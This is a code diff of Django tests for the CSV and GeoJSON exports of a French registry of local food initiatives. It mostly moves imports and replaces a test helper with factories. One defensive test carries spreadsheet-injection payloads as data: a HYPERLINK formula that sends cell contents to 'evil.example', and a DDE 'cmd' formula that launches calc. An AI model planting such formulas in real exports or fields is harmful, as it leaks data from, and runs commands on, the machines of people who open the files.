@@ -5,16 +5,18 @@ import json
 import pytest
 from django.http import StreamingHttpResponse
 
-from registry.api import CSV_COLUMNS, EXPORT_CHUNK_SIZE
+from api.exports import CSV_COLUMNS
+from api.items import EXPORT_CHUNK_SIZE
 from registry.models import Status
 from registry.validators import LATITUDE_RANGE, LONGITUDE_RANGE
-from tests.api.conftest import assess
 from tests.factories import (
+    AssessmentFactory,
     CommuneFactory,
     DepartementFactory,
     InitiativeFactory,
     LabelFactory,
     ProductCategoryFactory,
+    StoredAssessmentFactory,
 )
 
 pytestmark = pytest.mark.django_db
@@ -45,7 +47,7 @@ def test_csv_has_stable_columns_and_one_row_per_initiative(api):
         [ProductCategoryFactory(), ProductCategoryFactory(code="CREMERIE", name="Crèmerie")]
     )
     initiative.labels.set([LabelFactory()])
-    assess(initiative, score=62.5)
+    StoredAssessmentFactory(initiative=initiative, score=62.5, max_score=100)
     InitiativeFactory(name="Sans évaluation")
 
     response = api.get(LIST_URL, {"format": "csv"})
@@ -73,7 +75,12 @@ def test_csv_cells_cannot_run_as_spreadsheet_formulas(api):
     """A retailer chooses the name: a formula in it must reach the spreadsheet as text."""
     link = '=HYPERLINK("http://evil.example/?"&A1,"Voir la fiche")'
     command = "=cmd|' /C calc'!A0"
-    assess(InitiativeFactory(name=link, opening_hours="@SUM(1+1)", phone="+33 5 61 00 00 00"))
+    StoredAssessmentFactory(
+        initiative=InitiativeFactory(
+            name=link, opening_hours="@SUM(1+1)", phone="+33 5 61 00 00 00"
+        ),
+        score=62.5,
+    )
     InitiativeFactory(name=command, latitude=43.1, longitude=-0.5)
 
     response = api.get(LIST_URL, {"format": "csv"})
@@ -95,12 +102,14 @@ def test_csv_honours_the_filters_and_returns_every_page(api):
     gers = DepartementFactory(code="32", name="Gers")
     auch = CommuneFactory(insee_code="32013", name="Auch", departement=gers, postal_codes=["32000"])
     for n in range(7):
-        assess(InitiativeFactory(name=f"Gers {n}", commune=auch, postal_code="32000"))
-    assess(
-        InitiativeFactory(name="Gers non éligible", commune=auch, postal_code="32000"),
-        verdict="not_eligible",
+        AssessmentFactory(
+            initiative=InitiativeFactory(name=f"Gers {n}", commune=auch, postal_code="32000")
+        )
+    AssessmentFactory(
+        initiative=InitiativeFactory(name="Gers non éligible", commune=auch, postal_code="32000"),
+        not_eligible=True,
     )
-    assess(InitiativeFactory(name="Toulouse"))
+    AssessmentFactory(initiative=InitiativeFactory(name="Toulouse"))
     InitiativeFactory(name="Brouillon", status=Status.DRAFT)
 
     rows = csv_rows(
@@ -113,9 +122,9 @@ def test_csv_honours_the_filters_and_returns_every_page(api):
 
 
 def test_csv_keeps_the_requested_order(api):
-    assess(InitiativeFactory(name="Moyenne"), score=50)
-    assess(InitiativeFactory(name="Haute"), score=90)
-    assess(InitiativeFactory(name="Basse"), score=10)
+    StoredAssessmentFactory(initiative=InitiativeFactory(name="Moyenne"), score=50)
+    StoredAssessmentFactory(initiative=InitiativeFactory(name="Haute"), score=90)
+    StoredAssessmentFactory(initiative=InitiativeFactory(name="Basse"), score=10)
 
     rows = csv_rows(api.get(LIST_URL, {"format": "csv", "ordering": "-score"}))
 
@@ -125,7 +134,7 @@ def test_csv_keeps_the_requested_order(api):
 def test_csv_streams_in_chunks_with_a_bounded_number_of_queries(
     api, django_assert_max_num_queries, monkeypatch
 ):
-    monkeypatch.setattr("registry.api.EXPORT_CHUNK_SIZE", 10)
+    monkeypatch.setattr("api.items.EXPORT_CHUNK_SIZE", 10)
     for _ in range(25):
         InitiativeFactory().products.set([ProductCategoryFactory()])
 
@@ -139,7 +148,7 @@ def test_csv_streams_in_chunks_with_a_bounded_number_of_queries(
 
 def test_geojson_is_a_feature_collection_with_longitude_first(api):
     initiative = InitiativeFactory(name="Au marché", latitude=43.6047, longitude=1.4442)
-    assess(initiative)
+    AssessmentFactory(initiative=initiative)
     InitiativeFactory(name="Sans position", latitude=None, longitude=None)
 
     response = api.get(LIST_URL, {"format": "geojson"})
@@ -160,8 +169,8 @@ def test_geojson_is_a_feature_collection_with_longitude_first(api):
 
 
 def test_geojson_honours_the_filters(api):
-    assess(InitiativeFactory(name="Oui"))
-    assess(InitiativeFactory(name="Non"), verdict="not_eligible")
+    AssessmentFactory(initiative=InitiativeFactory(name="Oui"))
+    AssessmentFactory(initiative=InitiativeFactory(name="Non"), not_eligible=True)
 
     collection = json.loads(body(api.get(LIST_URL, {"format": "geojson", "eligible": "true"})))
 
@@ -208,14 +217,15 @@ def test_exports_exist_only_on_the_list(api):
 
 def test_fast_rows_match_the_documented_serializer(api, rf):
     """List pages and exports are built without the serializer, for speed: same output."""
-    from registry.api import InitiativeSerializer, list_items, list_queryset
+    from api.initiatives import list_queryset
+    from api.items import InitiativeSerializer, list_items
 
     with_everything = InitiativeFactory(name="Complète", address="1 place du Capitole")
     with_everything.products.set(
         [ProductCategoryFactory(), ProductCategoryFactory(code="CREMERIE")]
     )
     with_everything.labels.set([LabelFactory(), LabelFactory(code="HVE", name="HVE")])
-    assess(with_everything, score=71.25)
+    StoredAssessmentFactory(initiative=with_everything, score=71.25, max_score=100)
     InitiativeFactory(name="Vide", latitude=None, longitude=None)
     request = rf.get("/api/v1/initiatives/")
 
